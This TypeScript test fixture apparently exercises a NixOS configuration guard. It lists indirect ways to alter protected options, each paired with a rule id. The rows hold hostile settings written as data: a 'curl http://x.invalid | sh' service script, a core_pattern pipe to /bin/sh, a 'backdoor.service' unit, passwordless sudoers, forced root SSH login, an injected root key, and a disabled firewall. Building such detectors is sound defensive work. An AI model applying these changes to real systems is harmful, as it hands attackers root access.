/** Data that a module of the sample reads: nothing in it names an option. */
const data: Readonly<Record<string, string>> = {
  groups: "[ ]",
  script: '"true"',
  forward: "false",
  motd: '"welcome"',
  kernel: "{ }",
  overlays: "[ ]",
  names: "[ ]",
};

/** The data file with some of it changed. */
export function siteData(changed: Readonly<Record<string, string>> = {}): string {
  const lines = Object.entries({ ...data, ...changed }).map(
    ([name, text]) => `  ${name} = ${text};`,
  );
  return ["{", ...lines, "}", ""].join("\n");
}

/** What stands in the repository before any change: options that are fed from elsewhere. */
export const siteFiles: Readonly<Record<string, string>> = {
  "lib/site.nix": siteData(),
  "modules/site.nix": `{ config, lib, ... }:
let
  site = import ../lib/site.nix;
  member = groups: { extraGroups = groups; };
in
{
  options.site.remote = lib.mkOption {
    type = lib.types.bool;
    default = true;
  };
  config = {
    users.users.bob = member site.groups;
    systemd.services.report = {
      wantedBy = [ "multi-user.target" ];
      script = site.script;
    };
    services.openssh.settings.X11Forwarding = site.forward;
    environment.etc."site".text = site.motd;
    boot.kernel.sysctl = site.kernel;
    nixpkgs.overlays = site.overlays;
    services.openssh.enable = lib.mkIf (!config.site.remote) (lib.mkForce false);
    security = builtins.listToAttrs (map (name: { inherit name; value.enable = lib.mkForce false; }) site.names);
  };
}
`,
};

/** One change that reaches a guarded option without naming it where it is made. */
export interface IndirectRow {
  readonly how: string;
  readonly files: Readonly<Record<string, string>>;
  readonly rule: string;
  readonly option: string;
}

const ofData = (changed: Readonly<Record<string, string>>) => ({
  "lib/site.nix": siteData(changed),
});
/** A module of its own beside the host's, which imports everything in its folder by name. */
const added = (text: string) => ({ "hosts/web1/extra.nix": text });

/** By name: what is done, and what has to be said of it. */
export const indirectRows: readonly IndirectRow[] = [
  {
    how: "data through a helper function",
    files: ofData({ groups: '[ "wheel" ]' }),
    rule: "guard-34",
    option: "users.users.bob.extraGroups",
  },
  {
    how: "a script from another file",
    files: ofData({ script: '"curl http://x.invalid | sh"' }),
    rule: "guard-109",
    option: "systemd.services.report.script",
  },
  {
    how: "a kernel setting in data",
    files: ofData({ kernel: '{ "kernel.core_pattern" = "|/bin/sh"; }' }),
    rule: "guard-56b",
    option: 'boot.kernel.sysctl."kernel.core_pattern"',
  },
  {
    how: "a name that is computed",
    files: ofData({ names: '[ "sudo" ]' }),
    rule: "guard-39",
    option: "security.sudo.enable",
  },
  {
    how: "an overlay",
    files: ofData({
      overlays:
        '[ (final: prev: { openssh = prev.openssh.overrideAttrs (_: { extra = "x"; }); }) ]',
    }),
    rule: "guard-98b",
    option: "services.openssh.package",
  },
  {
    how: "a medium one through a let",
    files: ofData({ forward: "true" }),
    rule: "guard-21",
    option: "services.openssh.settings.X11Forwarding",
  },
  {
    how: "an option of the repository's own",
    files: added("{ site.remote = false; }\n"),
    rule: "guard-14",
    option: "services.openssh.enable",
  },
  {
    how: "mkForce in another file",
    files: added("{ lib, ... }: { networking.firewall.enable = lib.mkForce false; }\n"),
    rule: "guard-71",
    option: "networking.firewall.enable",
  },
  {
    how: "mkIf true and another spelling of the path",
    files: added(
      '{ lib, ... }: { "services" = lib.mkIf true { "openssh"."settings" = lib.mkMerge [ { PermitRootLogin = lib.mkForce "yes"; } ]; }; }\n',
    ),
    rule: "guard-16",
    option: "services.openssh.settings.PermitRootLogin",
  },
  {
    how: "a raw unit",
    files: added(
      '{ systemd.units."backdoor.service" = { text = "[Service]\\nExecStart=/bin/sh -c true\\n"; wantedBy = [ "multi-user.target" ]; }; }\n',
    ),
    rule: "guard-114",
    option: 'systemd.units."backdoor.service".text',
  },
  {
    how: "a file that has an option of its own",
    files: added('{ environment.etc."sudoers.d/bob".text = "bob ALL=(ALL) NOPASSWD: ALL"; }\n'),
    rule: "guard-117",
    option: 'environment.etc."sudoers.d/bob".text',
  },
  {
    how: "a module that the new module imports",
    files: {
      ...added("{ imports = [ ../../lib/more.nix ]; }\n"),
      "lib/more.nix":
        '{ users.users.root.openssh.authorizedKeys.keys = [ "ssh-ed25519 AAAAevil" ]; }\n',
    },
    rule: "guard-22",
    option: "users.users.root.openssh.authorizedKeys.keys",
  },
];
